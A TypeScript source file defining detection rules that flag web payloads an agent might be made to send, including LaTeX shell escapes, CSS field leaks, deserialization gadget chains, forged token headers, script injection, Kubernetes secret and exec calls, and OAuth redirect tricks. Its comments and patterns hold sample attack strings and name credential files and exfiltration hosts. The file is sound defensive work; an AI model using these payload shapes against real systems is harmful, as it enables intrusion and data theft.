/**
 * Web payloads of the smaller families an agent can be made to send in a request: LaTeX shell
 * escapes, CSS that leaks a field character by character, web-cache deception paths, ORM filters
 * that probe a password hash, SAML assertions wrapped around a signed one, gadget chains of
 * .NET, Java, Ruby, Node and pickle deserializers, untrusted data fed to a deserializer in code, forged token
 * headers, and script in markup the shorter script rule does not list (any `on…` handler, a
 * `javascript:` URL split by tabs).
 *
 * Patterns follow the other tables' RE2 budget: unbounded spans, no counted repetition, and
 * anything that needs counting or a second condition checked in `confirm`.
 */
import type { PatternRule } from './rule.js';

/** `javascript:` with the tabs and line breaks a browser drops from a URL scheme allowed between its letters. */
const JAVASCRIPT_SCHEME = ['j', 'a', 'v', 'a', 's', 'c', 'r', 'i', 'p', 't'].join('[\\t\\n\\r]*') + '[\\t\\n\\r]*:';

/** What an injected script reaches for first; page code (`history.back()`, `window.print()`) does not. */
const SCRIPT_PAYLOAD = /^\s*(?:alert|prompt|confirm|eval|fetch|import\s*\(|atob|top\[|self\[|document\.(?:cookie|domain|write|location)|(?:window\.)?location\s*=|string\.fromcharcode|settimeout\s*\(\s*['"]|\(\s*alert)/i;

/**
 * Whether some `javascript:` URL in an attribute runs a payload, or hides its scheme with tabs
 * and line breaks. Old markup's own links (`javascript:void(0)`, `javascript:history.back()`) do neither.
 */
function runsScriptUrl(text: string): boolean {
  const re = new RegExp(`(?:href|src|action|formaction|xlink:href|data)\\s*=\\s*['"]?\\s*(${JAVASCRIPT_SCHEME})`, 'gi');
  for (const m of text.matchAll(re)) {
    if (/[\t\n\r]/.test(m[1]!)) return true;
    if (SCRIPT_PAYLOAD.test(text.slice(m.index + m[0].length, m.index + m[0].length + 60))) return true;
  }
  return false;
}

/** Two or more assertions in one SAML message, or a comment splitting the subject's name: signature wrapping. */
function wrapsSamlAssertion(text: string): boolean {
  const assertions = text.match(/<(?:[\w-]+:)?assertion\b/gi);
  return (assertions !== null && assertions.length >= 2) || /<(?:[\w-]+:)?nameid\b[^>]*>[^<]*<!--/i.test(text);
}

/** Deserializers that build objects of any class from their input. */
const UNSAFE_DESERIALIZER =
  /\b(?:c?pickle|dill|joblib|marshal|shelve|jsonpickle)\.(?:loads?|decode)\s*\(|\byaml\.(?:unsafe_)?load(?:_all)?\s*\(|\bunserialize\s*\(|\bMarshal\.load\s*\(|\bBinaryFormatter\s*\(\s*\)\s*\.\s*Deserialize|\bnew\s+ObjectInputStream\s*\(|\bXMLDecoder\s*\(|\bObjectStateFormatter\b|\bLosFormatter\b/i;
/** Where untrusted bytes come from in a handler or a script: the request, a socket, a download. */
const UNTRUSTED_SOURCE =
  /\brequest\.(?:data|body|args|form|files|cookies|get_data|json|values|params|query|POST|GET)\b|\brequest\.getInputStream\b|\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\b|\bparams\[|\bcookies\[|\.recv\s*\(|\burlopen\s*\(|\brequests\.(?:get|post)\s*\(|\bsys\.stdin\b|\bsocket\.getInputStream\b|\bHttpContext\.Request\b|\bRequest\.(?:Form|QueryString|Cookies|InputStream)\b/;

/** Untrusted input handed to a deserializer that can build arbitrary objects (`yaml.load` with a safe loader excepted). */
function deserializesUntrusted(text: string): boolean {
  if (!UNSAFE_DESERIALIZER.test(text) || !UNTRUSTED_SOURCE.test(text)) return false;
  const onlySafeYaml = !/\b(?:c?pickle|dill|joblib|marshal|shelve|jsonpickle)\.|unserialize|Marshal\.load|BinaryFormatter|ObjectInputStream|XMLDecoder|ObjectStateFormatter|LosFormatter/i.test(text);
  return !(onlySafeYaml && /Loader\s*=\s*(?:yaml\.)?(?:C?SafeLoader|BaseLoader)\b/.test(text));
}

/**
 * Full shapes, checked in JS once the set's cheap gate matched: the spans and alternations they
 * need, compiled into the shared RE2 set, pushed it past its automaton's memory budget.
 */
const LATEX_ESCAPE =
  /\\(?:immediate\s*\\)?write18\b|\\shellescape\b|\\input\s*\{?\s*\|\s*['"]?\S|\\openin\d*\s*\\?\w*\s*=?\s*\/|\\(?:input|include|lstinputlisting|verbatiminput|includegraphics)\s*(?:\[[^\]\n]*\])?\s*\{\s*\/(?:etc|proc|root|sys)\/|\\(?:input|include|lstinputlisting|verbatiminput)\s*(?:\[[^\]\n]*\])?\s*\{[^}\n]*(?:\.env\b|\.ssh\/|\.aws\/|\.git\/config|id_rsa|\.htpasswd|\.netrc|\.pgpass|\.bash_history)/i;
const CSS_VALUE_LEAK = /\[\s*value\s*[\^$*~|]?=[^\]\n]*\]\s*\{[^}\n]*url\(\s*['"]?(?:https?:)?\/\//i;
const CACHE_DECEPTION =
  /\.(?:php\d?|aspx?|jsp|do|action|cgi)\/[^\s?#"']*\.(?:css|js|png|jpe?g|gif|ico|svg|woff2?)(?:$|[?#\s"'])|\/(?:account|my-?account|profile|settings|dashboard|billing|user|me|admin)(?:%2f|%3b|%3f|%23|%00|%0a|;)[^\s/?#"']*\.(?:css|js|png|jpe?g|gif|ico|svg)(?:$|[?#\s"'])/i;
const FORGED_KEY_REFERENCE = /['"]kid['"]\s*:\s*['"](?:\/(?:proc|dev|etc|sys|var|tmp|usr|bin|root|home)\/|[a-z]:\\\\)|['"]kid['"]\s*:\s*['"][^'"\n]*(?:\.\.\/|\/dev\/null|\|\s*\w|'\s*(?:union|or)\b)|['"](?:jku|x5u)['"]\s*:\s*['"]https?:\/\//i;
/**
 * A handler that runs a payload. Page code's own handlers (`onclick="location.href='/cart'"`,
 * `onclick="return confirm('Delete?')"`, `onclick="window.print()"`) are left to the shorter
 * script rule, which reads only the events that fire by themselves.
 */
const HANDLER_PAYLOAD = String.raw`\s*=\s*['"]?\s*(?:alert|prompt|eval|fetch|import\s*\(|top\[|self\[|atob\s*\(|document\.(?:cookie|domain|write)|string\.fromcharcode|(?:window\.)?location\s*=\s*['"]?(?:javascript:|https?:|//)|settimeout\s*\(\s*['"])`;
const HANDLER_IN_TAG = new RegExp(String.raw`<[a-z][\w-]*\b[^>\n]*[\s/'"]on[a-z]+` + HANDLER_PAYLOAD, 'i');
/** `" onmouseenter=alert(1) x="`: a value that closes the attribute it lands in and adds a handler. */
const HANDLER_AFTER_QUOTE = new RegExp(String.raw`^\s*['"][^<\n]*\son[a-z]+` + HANDLER_PAYLOAD, 'i');
const KUBE_API_ABUSE =
  /\/api\/v1\/(?:namespaces\/[^/\s?]+\/)?secrets\b|\/api\/v1\/namespaces\/[^/\s?]+\/pods\/[^/\s?]+\/(?:exec|attach)\b|:10250\/(?:run|exec|attach|runningpods|pods)\b/i;
const OAUTH_REDIRECT_TRICK =
  /[?&](?:redirect_uri|redirect_url|callback_url|return_to)=(?:https?(?::|%3a)(?:\/\/|%2f%2f))[^&\s/@%]*(?:@|%40)|[?&](?:redirect_uri|redirect_url)=[^&\s]*(?:\/\.\.\/|%2f\.\.%2f|%2e%2e(?:%2f|\/))|[?&](?:redirect_uri|redirect_url)=https?(?::|%3a)(?:\/\/|%2f%2f)[^&\s/?#%]*\.(?:com|net|org|io|app|dev)\.[a-z0-9-]+\.[a-z]|[?&](?:redirect_uri|redirect_url|callback_url|return_to)=https?(?::|%3a)(?:\/\/|%2f%2f)[^&\s/?#%]{0,200}(?:\.(?:xyz|top|click|icu|tk|ml|ga|cf|gq|pw|zip|mov)|\bwebhook\.site|\.ngrok(?:-free)?\.(?:io|app|dev)|\.trycloudflare\.com|\.loca\.lt|\brequestbin\.\w+|\.pipedream\.net|\.oastify\.com|\binteract\.sh|\.burpcollaborator\.net|\.requestcatcher\.com)(?=[/?#&%:]|$)/i;

const GRAPHQL_PRIVILEGE =
  /\bmutation\b[^]*?\b(?:is_?admin|is_?superuser|is_?staff|admin)\s*:\s*true\b|\bmutation\b[^]*?\b(?:role|roles|user_?role|account_?type)\s*:\s*\[?\s*"?(?:admin|administrator|superuser|super_?admin|owner|root)\b/i;

const shaped = (re: RegExp) => (text: string): boolean => re.test(text);

export const WEB_PAYLOAD_RULES: readonly PatternRule[] = [
  // a document compiler with shell escape on runs \write18; \input|"cmd" reads a command's output
  { family: 'latex_injection', label: 'LaTeX shell escape or file read', pattern: String.raw`\\(?:write18|immediate|input|openin|include|lstinputlisting|verbatiminput|shellescape)`, risk: 60, proseRisk: 25, confirm: shaped(LATEX_ESCAPE) },
  // input[value^=a]{background:url(//attacker/?a)}: each matching prefix fetches the attacker's URL
  { family: 'css_injection', label: 'CSS attribute selector leaking a field value', pattern: String.raw`\[\s*value\s*[\^$*~|]?=`, risk: 55, proseRisk: 25, confirm: shaped(CSS_VALUE_LEAK) },
  // /account.php/x.css: a cache keyed on the extension stores the private page for anyone
  { family: 'cache_deception', label: 'static-file suffix after a dynamic page (web cache deception)', pattern: String.raw`\.(?:php\d?|aspx?|jsp|do|action|cgi)/|/(?:account|my-?account|profile|settings|dashboard|billing|user|me|admin)(?:%2f|%3b|%3f|%23|%00|%0a|;)`, risk: 45, proseRisk: 20, confirm: shaped(CACHE_DECEPTION) },
  // Django-style lookups on a secret column: each answer leaks a prefix of the hash
  { family: 'orm_leak', label: 'ORM filter probing a secret field', pattern: String.raw`\b(?:password|passwd|pass_?hash|password_?hash|secret|token|api_?key|otp|reset_?token|salt)__(?:startswith|istartswith|endswith|iendswith|regex|iregex|contains|icontains|gt|gte|lt|lte|range|in)\b`, risk: 55 },
  { family: 'auth_bypass', label: 'SAML message with a wrapped assertion', pattern: String.raw`<(?:[\w-]+:)?(?:assertion|nameid)\b`, risk: 55, confirm: wrapsSamlAssertion },
  // gadget classes of ysoserial(.net) and the Ruby universal gadget, and a BinaryFormatter stream in base64
  { family: 'deserialization', label: 'deserialization gadget chain', pattern: String.raw`system\.windows\.data\.objectdataprovider|textformattingrunproperties|system\.delegateserializationholder|typeconfusedelegate|system\.configuration\.install\.assemblyinstaller|system\.activities\.presentation\.workflowdesigner|system\.management\.automation\.psobject|^\s*/wEy[A-Za-z0-9+/]|AAEAAAD/////|org\.apache\.commons\.collections\d?\.functors\.|com\.sun\.rowset\.jdbcrowsetimpl|(?:classpath|filesystem)xmlapplicationcontext|xbean\.propertyeditor\.jndiconverter|zaxxer\.hikari\.hikariconfig|logback\.core\.db\.(?:jndiconnectionsource|drivermanagerconnectionsource)|c3p0\.(?:wrapperconnectionpooldatasource|jndirefforwardingdatasource)|groovy\.runtime\.methodclosure|propertypathfactorybean|badattributevalueexpexception|jdk\.nashorn\.internal\.objects\.nativestring|unmarshaller\.base64data|java\.beans\.eventhandler|<dynamic-proxy>|\bbsh\.interpreter\b|xsltc\.trax\.templatesimpl|\bgem::(?:requirement|installer|stubspecification|requestset|package::tarreader)\b|\bnet::writeadapter\b|!ruby/(?:object|hash):|_\$\$nd_func\$\$_|\bc(?:os|posix|nt|subprocess|builtins|__builtin__)\n(?:system|popen|eval|exec|check_output|call|getoutput)\n`, risk: 70 },
  { family: 'deserialization', label: 'untrusted input deserialized by code', pattern: String.raw`\b(?:c?pickle|dill|joblib|marshal|shelve|jsonpickle)\.(?:loads?|decode)\s*\(|\byaml\.(?:unsafe_)?load(?:_all)?\s*\(|\bunserialize\s*\(|\bbinaryformatter\b|\bobjectinputstream\b|\bxmldecoder\s*\(|\bobjectstateformatter\b|\blosformatter\b`, risk: 55, confirm: deserializesUntrusted },
  // a token whose key id walks the file system or runs SQL, or whose key set lives at a URL the signer chose
  { family: 'token_forgery', label: 'token header with a forged key reference', pattern: String.raw`['"](?:kid|jku|x5u)['"]\s*:`, risk: 55, confirm: shaped(FORGED_KEY_REFERENCE) },
  { family: 'script_injection', label: 'event handler running script in markup', pattern: String.raw`[\s/'"]on[a-z]+\s*=\s*['"]?\s*(?:alert|prompt|eval|fetch|import|top\[|self\[|atob|document\.|string\.fromcharcode|location|window\.location|settimeout)`, risk: 55, proseRisk: 30, confirm: (text) => HANDLER_IN_TAG.test(text) || HANDLER_AFTER_QUOTE.test(text) },
  { family: 'script_injection', label: 'javascript: URL in an attribute', pattern: String.raw`(?:href|src|action|data)\s*=\s*['"]?\s*j`, risk: 50, proseRisk: 25, confirm: runsScriptUrl },
  // /;/manager, /.;/admin: a path parameter or dot segment the proxy keeps and the servlet container drops
  { family: 'access_control_bypass', label: 'path parameter hiding an admin path from a reverse proxy', pattern: String.raw`/(?:\.|%2e)?;[^/\s?#]*/(?:manager|host-manager|admin|actuator|console|jmx-console|web-console|invoker|server-status)\b`, risk: 50, proseRisk: 20 },
  { family: 'script_injection', label: 'HTML document in a data: URL attribute', pattern: String.raw`=\s*['"]?\s*data:text/html\b`, risk: 50, proseRisk: 25 },
  // a browser miner dropped into a page the agent publishes
  { family: 'cryptojacking', label: 'in-browser crypto-miner script', pattern: String.raw`coinhive(?:\.min)?\.js|\bcoinhive\.(?:anonymous|user|token)\b|coin-hive\.com|crypto-loot\.com|coinimp\.com|webminepool\.com`, risk: 60, proseRisk: 20 },
  // a GraphQL mutation that sets the caller's privileges along with ordinary fields
  { family: 'mass_assignment', label: 'GraphQL mutation setting a privilege field', pattern: String.raw`\bmutation\b`, risk: 50, confirm: shaped(GRAPHQL_PRIVILEGE) },
  // the cluster API asked for its secrets or for a shell in a pod, on whatever host it is published
  { family: 'cluster_api_abuse', label: 'Kubernetes or kubelet API listing secrets or executing in a pod', pattern: String.raw`/api/v1/(?:namespaces|secrets)\b|:10250/`, risk: 55, proseRisk: 20, confirm: shaped(KUBE_API_ABUSE) },
  // redirect_uri=https://client.example@attacker/, client.example.com.attacker.net, or one that climbs out of the registered path
  { family: 'open_redirect', label: 'OAuth redirect URI with a parser trick', pattern: String.raw`[?&](?:redirect_uri|redirect_url|callback_url|return_to)=`, risk: 50, confirm: shaped(OAUTH_REDIRECT_TRICK) },
];
